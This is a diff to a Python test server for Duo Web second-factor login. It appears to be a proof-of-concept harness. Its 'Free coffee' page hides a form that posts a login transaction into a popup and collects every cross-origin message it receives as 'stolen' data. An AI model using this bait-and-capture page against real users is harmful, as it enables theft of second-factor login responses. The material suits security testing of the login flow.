@@ -6,6 +6,7 @@ Says `listening PORT`. Whoever asks for a page says who logs in; the page of the
 """
 
 import html
+import itertools
 import json
 import sys
 import warnings
@@ -26,12 +27,12 @@ LOGIN = """<h1>Second factor</h1><style>iframe {{ width: 560px; height: 560px; b
 
 # Somebody else's page, which has got hold of a request and opens the window itself.
 THIEF = """<h1>Free coffee</h1><p id="stolen"></p>
-<form id="bait" method="post" action="https://{host}/frame/web/v1/login" target="prize"><input type="hidden" name="tx" value="{tx}">
-<button type="button" id="open">Get it</button></form>
 <script>
 addEventListener("message", (event) => {{ document.getElementById("stolen").textContent += event.data + ";"; }});
-document.getElementById("open").onclick = () => {{ window.open("", "prize", "popup"); document.getElementById("bait").submit(); }};
-</script>"""
+function steal() {{ window.open("", "prize", "popup"); document.getElementById("bait").submit(); }}
+</script>
+<form id="bait" method="post" action="https://{host}/frame/web/v1/login" target="prize"><input type="hidden" name="tx" value="{tx}">
+<button type="button" id="open" onclick="steal()">Get it</button></form>"""
 
 
 class Application(BaseHTTPRequestHandler):
@@ -75,9 +76,12 @@ def sign(user, how):
         return ":".join(halves)
     if how == "enroll":
         return duo_web.sign_enroll_request(ikey, skey, akey, user)
+    # A request is its user and the second in which it ends: two of the same second would be one, and good once.
+    duo_web.DUO_EXPIRE = 300 - next(requests) % 60
     return duo_web.sign_request(ikey, skey, akey, user)
 
 
+requests = itertools.count()
 settings = json.loads(sys.argv[1])
 ikey, skey, akey, host = (settings[name] for name in ("ikey", "skey", "akey", "host"))
 # Also on `localhost`, where it is of another origin.
